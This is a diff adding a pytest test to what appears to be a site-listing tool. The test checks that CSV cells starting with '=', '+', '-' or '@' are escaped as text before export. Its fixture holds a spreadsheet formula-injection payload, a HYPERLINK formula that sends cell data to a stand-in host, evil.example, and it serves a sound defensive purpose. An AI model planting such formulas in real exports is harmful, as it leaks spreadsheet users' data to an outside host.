@@ -195,6 +195,54 @@ def test_a_csv_list_is_its_json_array_so_an_item_may_hold_a_comma(
     )
 
 
+HOSTILE_CELLS = (
+    "---\n"
+    'title: \'=HYPERLINK("https://evil.example/?d="&A1,"Apply")\'\n'
+    "phone: +33 6 12 34 56 78\n"
+    "total: '@SUM(A1:A9)'\n"
+    "spaced: '  -1+2'\n"
+    'tab: "\\t=1+1"\n'
+    "minus: -3\n"
+    "half: -2.5\n"
+    "quoted: '-3'\n"
+    "low: -.inf\n"
+    "list: ['=1+1', -x]\n"
+    "when: 2024-01-02\n"
+    "'=key': v\n"
+    "---\n"
+)
+
+
+def test_a_csv_cell_a_spreadsheet_would_run_as_a_formula_is_marked_as_text(
+    make_repo,  # type: ignore[no-untyped-def]
+    capsysbinary: pytest.CaptureFixture[bytes],
+) -> None:
+    """Postings are other people's text, and the CSV is opened in spreadsheets, which run a
+    cell starting with ``=``, ``+``, ``-`` or ``@`` as a formula (``=HYPERLINK`` sends the
+    sheet's data away): such text, and a key in the header, is written after a ``'``, the
+    spreadsheets' mark for text (after leading spaces too; a tab is already its escape). A
+    number stays a number (``-3``, ``-2.5``), a list its JSON, a date its ISO text; text
+    that reads ``-3`` is text, and so is ``-inf``. JSON keeps every value exact."""
+    site = make_repo({"_jobs/a.md": HOSTILE_CELLS})
+    assert main(["list", "--repo", str(site), "--format", "csv"]) == 0
+    title = b'"\'=HYPERLINK(""https://evil.example/?d=""&A1,""Apply"")"'  # csv's quotes
+    assert capsysbinary.readouterr().out == (
+        b"path,collection,site_date,site_title,site_state,title,phone,total,spaced,tab,"
+        b"minus,half,quoted,low,list,when,'=key\n"
+        b"_jobs/a.md,jobs,," + title + b",published," + title + b","
+        b"'+33 6 12 34 56 78,'@SUM(A1:A9),'  -1+2,\\t=1+1,-3,-2.5,'-3,'-inf,"
+        b'"[""=1+1"", ""-x""]",2024-01-02,v\n'
+    )
+    assert main(["list", "--repo", str(site), "--format", "json"]) == 0
+    fields = json.loads(capsysbinary.readouterr().out)[0]["fields"]
+    assert (fields["title"], fields["total"], fields["minus"], fields["=key"]) == (
+        '=HYPERLINK("https://evil.example/?d="&A1,"Apply")',
+        "@SUM(A1:A9)",
+        -3,
+        "v",
+    )
+
+
 def test_list_json_site_values(make_repo, capsys: pytest.CaptureFixture[str]) -> None:  # type: ignore[no-untyped-def]
     root = make_repo(
         {
